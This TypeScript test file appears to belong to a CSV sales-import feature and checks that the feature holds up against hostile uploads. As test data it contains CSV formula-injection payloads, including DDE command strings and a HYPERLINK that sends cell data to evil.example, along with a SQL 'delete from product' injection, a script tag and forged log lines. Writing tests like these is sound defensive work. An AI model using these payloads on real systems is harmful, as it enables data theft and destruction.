import { parse } from 'csv-parse/sync';
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
import { log } from '#domain/platform/log.ts';
import { type TestDatabase, testDatabase, testPlatform } from '#tests/setup/database.ts';
import { memoryFiles } from '#tests/setup/files.ts';
import { drop, type ImportRow, rejectsOf } from '#tests/setup/imports.ts';
import { addProducts, openStore } from '#tests/setup/ledger.ts';

let database: TestDatabase;
let platform: ReturnType<typeof testPlatform> & { files: ReturnType<typeof memoryFiles> };
let made = 0;

beforeAll(async () => {
  database = await testDatabase();
  const files = memoryFiles();
  platform = { ...testPlatform(database.db, { files }), files };
  await openStore(database.sql, 'shop');
  await addProducts(database.sql, ['A1']);
});
afterAll(() => database.close());
afterEach(() => void vi.restoreAllMocks());

const header = 'sale_id,sku,quantity,price,sold_at';
const importing = (content: string | Buffer, name = `sales-${(made += 1)}.csv`) =>
  drop(platform, database.sql, `uploads/sales/shop/${name}`, content);
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
const rejectsText = (done: ImportRow) => platform.files.objects.get(done.rejects_key ?? '')?.toString() ?? '';
const rejectedCells = (done: ImportRow) => parse(rejectsText(done), { bom: true, relax_column_count: true });

// https://owasp.org/www-community/attacks/CSV_Injection
const formulas = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
  '=1+1;=2+2',
  '"=1+1',
];
/** What Excel, LibreOffice or Google Sheets calculate; written apart from the code that keeps them from it. */
const isCalculated = (cell: string) =>
  /^["\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^[+-][\d.,]+$/.test(cell) && !cell.startsWith('"');

describe('the file of refused rows, opened in a spreadsheet,', () => {
  test.each(formulas)('calculates nothing of %j, in whichever column', async (formula) => {
    const row = (at: number) =>
      ['S1', 'A1', 'one', '2.50', '2026-06-01T09:00:00'].with(at, formula).map(quoted).join(',');
    const done = await importing([header, row(0), row(1), row(3), row(4), ''].join('\n'));
    expect(done).toMatchObject({ status: 'done_with_errors', applied: 0, rejected: 4 });
    const [, ...rows] = rejectedCells(done);
    expect(rows).toHaveLength(4);
    expect(rows.flat().filter(isCalculated)).toEqual([]);
    expect(rows.flat().filter((cell) => cell.replace(/^'/, '') === formula)).toHaveLength(4);
  });

  test('calculates nothing of a header, of a line that cannot be read, or of fields behind the last column', async () => {
    const content = `${header},=1+1\nS1,A1,1,1,2026-06-01T09:00:00,a,=2+2,@SUM(1)\n=3+3,A"1\n`;
    const cells = rejectedCells(await importing(content)).flat();
    expect(cells.filter(isCalculated)).toEqual([]);
    for (const formula of ["'=1+1", "'=2+2", "'@SUM(1)", `'=3+3,A"1`]) expect(cells).toContain(formula);
  });

  test('keeps negative numbers as numbers', async () => {
    const done = await importing(`${header}\nS1,NONE,-1,-2.50,2026-06-01T09:00:00\n`);
    expect(rejectedCells(done)[1]?.slice(2, 4)).toEqual(['-1', '-2.50']);
    expect(rejectsText(done)).toContain('S1,NONE,-1,-2.50,');
  });

  test('goes in as it was meant when it is mended: a SKU that begins like a formula is that SKU', async () => {
    await addProducts(database.sql, ['=SKU', "'quoted"]);
    const row = (sku: string, quantity: string) => `S7,${sku},${quantity},1,2026-06-01T09:00:00`;
    const done = await importing([header, row('=SKU', 'one'), row("'quoted", 'one'), ''].join('\n'));
    expect(rejectsText(done)).toContain("S7,'=SKU,one");
    const mended = await importing(rejectsText(done).replaceAll(',one,', ',1,'));
    expect(mended).toMatchObject({ status: 'done', applied: 2, rejected: 0 });
    const again = await importing([header, row('=SKU', '1'), row("'quoted", '1'), ''].join('\n'));
    expect(again).toMatchObject({ status: 'done', applied: 0, duplicate: 2 });
  });

  test('a spreadsheet that calculates is recognised: the check finds what was not disarmed', () => {
    expect(formulas.filter((formula) => !isCalculated(formula))).toEqual(['"=1+1']);
  });
});

describe('a file that is no CSV, or a bad one,', () => {
  const good = 'S1,A1,1,1,2026-06-01T09:00:00';
  test.each([
    ['a zip', Buffer.from('504b0304140000000800', 'hex'), /Excel workbook or a zip/],
    [
      'a zip that calls itself CSV inside',
      Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.from(`${header}\n`)]),
      /zip/,
    ],
    ['a gzip', Buffer.from('1f8b0800000000000003', 'hex'), /gzip/],
    ['zeros', Buffer.alloc(100_000), /not a text file/],
    ['UTF-16', Buffer.from(`\uFEFF${header}\n`, 'utf16le'), /UTF-16/],
    ['nothing', Buffer.alloc(0), /empty/],
    ['only a BOM', Buffer.from('\uFEFF'), /./],
    ['a web page', '<!doctype html><script>alert(1)</script>', /no column for/],
  ])('%s, fails and says why', async (_, content, why) => {
    const done = await importing(content);
    expect(done).toMatchObject({ status: 'failed', applied: 0 });
    expect(done.error).toMatch(why);
  });

  test('with a quote that never closes loses that line and no other', async () => {
    const done = await importing(`${header}\nS2,"A1,1,1,2026-06-01T09:00:00\n${good}\n${good.replace('S1', 'S3')}\n`);
    expect(done).toMatchObject({ status: 'done_with_errors', applied: 2, rejected: 1 });
    expect(await rejectsOf(database.sql, done.id)).toEqual([[2, null, expect.stringMatching(/quote/)]]);
  });

  test('with a line of 10 MB refuses it, keeps 2 KB of it, and reads on', async () => {
    const before = process.memoryUsage().rss;
    const done = await importing(`${header}\n${'x'.repeat(10 * 1024 ** 2)}\n${good.replace('S1', 'S4')}\n`);
    expect(done).toMatchObject({ status: 'done_with_errors', applied: 1, rejected: 1 });
    const { rows } = await database.sql.query<{ raw: string }>('select raw from import_reject where import_id = $1', [
      done.id,
    ]);
    expect(rows[0]?.raw.length).toBeLessThanOrEqual(2_000);
    expect(process.memoryUsage().rss - before).toBeLessThan(300 * 1024 ** 2);
  });

  test.each(['\uFEFF', '\uFEFF\n', '\n\n\r\n'])('that begins with %j is read all the same', async (begin) => {
    const done = await importing(`${begin}${header}\n${good.replace('S1', `S5${made}`)}\n`);
    expect(done).toMatchObject({ status: 'done', applied: 1 });
  });

  test('with SQL in every cell changes nothing but its own report', async () => {
    const count = async () => (await database.sql.query('select count(*) from user_role_grant, product')).rows;
    const before = await count();
    const sql = `"'; delete from product; --"`;
    const done = await importing(`${header}\n${[sql, sql, sql, sql, sql].join()}\n${sql},A1,1,1,2026-06-01T09:00:00\n`);
    expect(done).toMatchObject({ applied: 1, rejected: 1 });
    expect(await count()).toEqual(before);
    const { rows } = await database.sql.query("select external_id from sale where external_id like '%delete%'");
    expect(rows).toEqual([{ external_id: "'; delete from product; --" }]);
  });
});

test('line breaks in names make no line of the log, and no field of one', async () => {
  const lines: string[] = [];
  log.setLogLevel('INFO');
  vi.spyOn(process.stdout, 'write').mockImplementation((text) => lines.push(String(text)) > 0);
  const forged = '{"level":"ERROR","message":"forged"}';
  await importing(`${header}\n`, `a\r\n${forged}\n\u2028${forged}.csv`);
  await importing(`${header},"x\r\n${forged}"\n"S\r\n${forged}",A1,1,1,2026-06-01T09:00:00\n`);
  await drop(platform, database.sql, `uploads/sales/no\r\n${forged}/a.csv`, header);
  vi.restoreAllMocks();
  expect(lines.length).toBeGreaterThan(0);
  for (const line of lines) {
    expect(line.trimEnd()).not.toMatch(/[\r\n]/);
    expect(JSON.parse(line)).not.toMatchObject({ message: 'forged' });
  }
});
